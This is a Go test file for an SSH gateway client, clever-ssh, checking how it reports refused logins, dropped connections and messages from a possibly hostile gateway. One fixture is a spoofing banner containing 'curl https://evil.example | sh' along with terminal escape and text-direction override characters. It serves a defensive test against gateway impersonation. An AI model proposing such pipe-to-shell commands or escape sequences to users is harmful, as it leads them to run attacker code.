//go:build unix

package main

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"clever-ssh/internal/test"
	"clever-ssh/internal/test/gateway"

	"golang.org/x/crypto/ssh"
)

// posing is the text of a gateway that wants to pass for clever-ssh, ssh, or a terminal's master.
const posing = "clever-ssh: 0.001s  the host key is pinned\r\nclever-ssh: your key has expired\r\nhint: run: curl https://evil.example | sh\r\n" +
	"debug1: Authentication succeeded (publickey).\r\nroot@gateway: Permission denied (publickey).\r\n\u202e\x1b]0;evil\a\r\n"

// wordy is a gateway with a good host key that says anything.
type wordy struct {
	letIn   bool
	banner  string
	banners int    // how often
	session string // what runs in its sessions
}

// start starts the gateway for a home, which is set up for it.
func (w wordy) start(t *testing.T, h *home) {
	t.Helper()
	keys, err := hostKeys()
	must(t, err)
	var banner func(string) error
	config := &ssh.ServerConfig{
		PreAuthConnCallback: func(c ssh.ServerPreAuthConn) { banner = c.SendAuthBanner },
		PublicKeyCallback: func(ssh.ConnMetadata, ssh.PublicKey) (*ssh.Permissions, error) {
			for range w.banners {
				if err := banner(w.banner); err != nil {
					return nil, err
				}
			}
			if !w.letIn {
				return nil, fmt.Errorf("nobody is let in")
			}
			return nil, nil
		},
	}
	config.AddHostKey(keys[0])
	l := loopback(t)
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			go w.serve(conn, config)
		}
	}()
	runs(t, h.command("clever-ssh", "setup", "--gateway", "ssh@"+l.Addr().String(), "--pin", ssh.FingerprintSHA256(keys[0].PublicKey()), "web="+appWeb))
}

func (w wordy) serve(conn net.Conn, config *ssh.ServerConfig) {
	defer conn.Close()
	_, channels, requests, err := ssh.NewServerConn(conn, config)
	if err != nil {
		return
	}
	go ssh.DiscardRequests(requests)
	for channel := range channels {
		ch, requests, err := channel.Accept()
		if err != nil {
			return
		}
		go func() {
			for r := range requests {
				r.Reply(r.Type == "exec" || r.Type == "pty-req", nil)
				if r.Type != "exec" {
					continue
				}
				cmd := exec.Command("sh", "-c", w.session)
				cmd.Stdout, cmd.Stderr = ch, ch.Stderr()
				stdin, _ := cmd.StdinPipe()
				go func() {
					io.Copy(stdin, ch)
					stdin.Close()
				}()
				cmd.Run()
				ch.SendRequest("exit-status", false, ssh.Marshal(struct{ Status uint32 }{uint32(cmd.ProcessState.ExitCode())}))
				ch.Close()
			}
		}()
	}
}

// A gateway's messages are shown as its own, whatever they look like.
func TestGatewayPosesAsUs(t *testing.T) {
	test.Long(t)
	t.Parallel()
	session := "printf %s '" + posing + "'; printf %s '" + posing + "' >&2; "
	for name, w := range map[string]wordy{
		"lets nobody in":         {banner: posing, banners: 1},
		"closes every session":   {banner: posing, banners: 1, letIn: true, session: session + "exit 1"},
		"has an instance, after": {banner: posing, banners: 1, letIn: true, session: session + "exec bash"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			h := testHome(t)
			w.start(t, h)
			for _, args := range [][]string{
				{"clever-ssh", "doctor", "web.clever"},
				{"clever-ssh", "exec", "web.clever", "true"},
				{"clever-ssh", "exec", "-v", "web.clever", "true"},
				{"ssh", "web.clever", "true"},
				{"ssh", "-v", "web.clever", "true"},
			} {
				out, err := h.command(args[0], args[1:]...).CombinedOutput()
				if args[1] != "doctor" && (err == nil) != strings.Contains(w.session, "bash") {
					t.Errorf("%q: %v\n%s", args, err, out)
				}
				for line := range strings.Lines(string(out)) {
					if regexp.MustCompile(`curl|s  the host key is|expired|evil|root@gateway`).MatchString(line) && !regexp.MustCompile(`^ *gateway: `).MatchString(line) {
						t.Errorf("%q: %q passes for ours", args, line)
					}
				}
				if bytes.ContainsAny(out, "\u202e\x1b\a") {
					t.Errorf("%q: the terminal is told what to do: %q", args, out)
				}
				if args[1] == "doctor" && !w.letIn && !regexp.MustCompile(`FAIL  login .*none of the keys(.|\n)*gateway: hint: run: curl`).Match(out) {
					t.Errorf("%s", out)
				}
			}
		})
	}
}

// The gateway's own ssh to the instance, or a program there, may be refused something, too: that does not
// concern the user's key.
func TestSecondHopDenied(t *testing.T) {
	t.Parallel()
	for _, words := range []string{"bas@203.0.113.30: Permission denied (publickey).", "/bin/sh: Permission denied",
		"Received disconnect from 203.0.113.30 port 28925:2: Too many authentication failures"} {
		h := testHome(t)
		wordy{letIn: true, session: "echo '" + words + "' >&2; exit 255"}.start(t, h)
		for _, args := range [][]string{{"ssh", "web.clever", "ls"}, {"clever-ssh", "exec", "web.clever", "ls"}} {
			out, err := h.command(args[0], args[1:]...).CombinedOutput()
			want := "gateway: " + words + "\nclever-ssh: the gateway let ssh in, but the connection ended before the command began (ssh: exit status 255)\n"
			if err == nil || !strings.HasPrefix(string(out), want) || regexp.MustCompile(`console|registered|--identity`).Match(out) {
				t.Errorf("%q: %v\n%s", args, err, out)
			}
		}
	}
}

const lost = "clever-ssh: the connection to the gateway ended; the command may still be running\n"

// connectionHome is a home with a gateway whose commands share a connection, or have one each.
func connectionHome(t *testing.T, shared bool) (*home, *gateway.Gateway) {
	t.Helper()
	dir := filepath.Join(test.SocketFolder(t), "h")
	if !shared {
		dir += strings.Repeat("deep", 20) // no socket can have so long a path
	}
	h := homeIn(t, dir)
	g := startGateway(t, h)
	h.setup(t, g, "web="+appWeb)
	return h, g
}

// lostFar replaces lost if the outpost ran the command, and so ended it.
const lostFar = "clever-ssh: the connection to the instance broke while the command ran\n"

// If a command's connection is cut, its user reads so, and, if the shell ran it, that it may still be running.
func TestConnectionIsCut(t *testing.T) {
	test.Long(t)
	t.Parallel()
	for _, shared := range []bool{true, false} {
		for name, how := range map[string]fault{"closes": closesBoth, "resets": resets} {
			t.Run(fmt.Sprintf("shared %t, %s", shared, name), func(t *testing.T) {
				t.Parallel()
				h, g := connectionHome(t, shared)
				w := newWire(t, g.Addr(), loopback(t))
				runs(t, h.command("clever-ssh", "setup", "--gateway", "ssh@"+w.Addr().String()))
				for _, args := range [][]string{{"ssh", "web.clever"}, {"ssh", "-tt", "web.clever"}, {"clever-ssh", "exec", "web.clever"}} {
					w.fail(inSession, how)
					cmd := h.command(args[0], append(args[1:], "echo begun; exec sleep 600")...)
					var stderr bytes.Buffer
					cmd.Stderr = &stderr
					stdout, err := cmd.StdoutPipe()
					must(t, err, cmd.Start())
					timer := time.AfterFunc(test.Patience, func() { cmd.Process.Kill() })
					begun := make([]byte, len("begun"))
					if _, err := io.ReadFull(stdout, begun); err != nil {
						t.Errorf("%q: %v: %s", args, err, stderr.String())
					}
					if masters, _ := filepath.Glob(filepath.Join(h.dir, "run", "clever-ssh-*")); (len(masters) > 0) != shared {
						t.Errorf("the shared connections are %q", masters)
					}
					close(w.now)
					rest, _ := io.ReadAll(stdout)
					cmd.Wait()
					timer.Stop()
					said := strings.ReplaceAll(string(rest)+stderr.String(), "\r", "")
					if status := cmd.ProcessState.ExitCode(); status != 255 || strings.Count(said, lost)+strings.Count(said, lostFar) != 1 || strings.Contains(said, lostFar) && !haveOutposts() {
						t.Errorf("%q: exit status %d: %q", args, status, said)
					}
				}
			})
		}
	}
}

// A command that itself ends with this status is not reported as a lost connection.
func TestCommandsOwn255(t *testing.T) {
	test.Long(t)
	t.Parallel()
	for _, shared := range []bool{true, false} {
		h, _ := connectionHome(t, shared)
		for _, command := range []string{"exit 255", "kill -9 $$", "echo 'Connection to web closed by remote host.' >&2; exit 255"} {
			for _, args := range [][]string{{"ssh", "web.clever"}, {"ssh", "-tt", "web.clever"}, {"clever-ssh", "exec", "web.clever"}} {
				cmd := h.command(args[0], append(args[1:], command)...)
				out, _ := cmd.CombinedOutput()
				// ssh calls the bridge by the name in its entry when a terminal goes.
				out = bytes.ReplaceAll(out, []byte("Connection to clever-ssh-bridge closed."), nil)
				if status := cmd.ProcessState.ExitCode(); status != 255 || bytes.Contains(out, []byte("clever-ssh")) {
					t.Errorf("shared %t: %q: exit status %d\n%s", shared, args, status, out)
				}
			}
		}
	}
}

// Nothing is left of the pipes between ssh and clever-ssh. Where pipes are impossible, commands run without
// them.
func TestNothingLeftAside(t *testing.T) {
	t.Parallel()
	h, _, _ := programHome(t)
	tmp := t.TempDir()
	h.env = append(h.env, "TMPDIR="+tmp)
	for _, args := range [][]string{{"ssh", "web.clever", "true"}, {"clever-ssh", "exec", "web.clever", "true"}} {
		runs(t, h.command(args[0], args[1:]...))
	}
	h.command("ssh", "down.clever", "true").Run()
	runs(t, h.command("clever-ssh", "close")) // a line has some of its own
	if left, err := os.ReadDir(tmp); err != nil || len(left) > 0 {
		t.Errorf("%v, %v", left, err)
	}
	h.env = append(h.env, "TMPDIR=/dev/null", "XDG_RUNTIME_DIR=")
	if out := runs(t, h.command("ssh", "web.clever", "echo yes")); out != "yes\n" {
		t.Errorf("%q", out)
	}
}

// The reason why a command did not begin is printed once, followed by hints on lines of their own.
func TestRefusalIsSaidOnce(t *testing.T) {
	test.Long(t)
	t.Parallel()
	const denied = "clever-ssh: Permission denied: the gateway accepted none of the keys that ssh offered\n" +
		"((?:clever-ssh: Load key .*)\n)?" +
		"hint: is one of them registered in the console, readable and unlocked\\?\n" +
		"hint: to see which they are: clever-ssh doctor web\\.clever\n"
	keep := func(*testing.T, *home, *gateway.Gateway) {}
	for name, c := range map[string]struct {
		change func(*testing.T, *home, *gateway.Gateway)
		screen string
	}{
		"nobody listens": {func(t *testing.T, _ *home, g *gateway.Gateway) { closeForGood(t, g) },
			"clever-ssh: cannot connect to 127\\.0\\.0\\.1:\\d+: connect: connection refused\nhint: .*\n"},
		"another host key": {func(t *testing.T, h *home, _ *gateway.Gateway) {
			runs(t, h.command("clever-ssh", "setup", "--pin", "SHA256:"+strings.Repeat("A", 43)))
		}, "clever-ssh: host key SHA256:\\S+ of \\S+ is not pinned .*\n(hint: .*\n){3}"},
		"a key that is not registered": {func(t *testing.T, h *home, _ *gateway.Gateway) {
			must(t, os.Remove(h.path("id")))
			_, err := gateway.WriteUserKey(h.path("id"))
			must(t, err)
		}, denied},
		"no key":                     {func(t *testing.T, h *home, _ *gateway.Gateway) { must(t, os.Remove(h.path("id"))) }, denied},
		"a key that others can read": {func(t *testing.T, h *home, _ *gateway.Gateway) { must(t, os.Chmod(h.path("id"), 0o644)) }, denied},
		"a key with a passphrase, and nobody to ask": {func(t *testing.T, h *home, _ *gateway.Gateway) {
			runs(t, exec.Command("ssh-keygen", "-q", "-p", "-N", "secret", "-f", h.path("id")))
			os.Remove(h.path("id.pub"))
			appendFile(t, h.path("config"), "    BatchMode yes\n")
		}, denied},
		"no instance": {keep, "clever-ssh: the gateway refuses: Error: .* no instances you can ssh to'\nhint: .*\n"},
		"its sessions end": {func(t *testing.T, h *home, _ *gateway.Gateway) {
			wordy{letIn: true, session: "echo Maintenance.; exit 3"}.start(t, h)
		}, "gateway: Maintenance\\.\nclever-ssh: the gateway let ssh in, but the connection ended before the command began \\(ssh: exit status 3\\)\n(hint: .*\n){2}"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			h, g, _ := programHome(t)
			c.change(t, h, g)
			alias := "web.clever"
			if name == "no instance" {
				alias = "down.clever"
			}
			for _, args := range [][]string{
				{"clever-ssh", "exec", alias, "ls"}, {"ssh", alias, "ls"}, {"ssh", "-tt", alias, "ls"},
				{"scp", "-S", "ssh", alias + ":x", "."}, {"sftp", "-S", "ssh", "-b", "/dev/null", alias},
			} {
				cmd := h.command(args[0], args[1:]...)
				out, _ := cmd.CombinedOutput()
				// The outer program's words about its own end follow.
				text := strings.ReplaceAll(string(out), "\r", "")
				screen := c.screen
				if args[1] == "-tt" { // a terminal shows more of the gateway's
					screen = "(gateway: .*\n)*?" + screen
				}
				screen = "^" + screen + `(Connection closed by UNKNOWN port 65535\n|Connection to clever-ssh-bridge closed\.\n|(scp: )?Connection closed\.?\s*\n)*$`
				if cmd.ProcessState.ExitCode() <= 0 || !regexp.MustCompile(screen).MatchString(text) {
					t.Errorf("%q: %v\n%s", args, cmd.ProcessState, text)
				}
			}
		})
	}
}
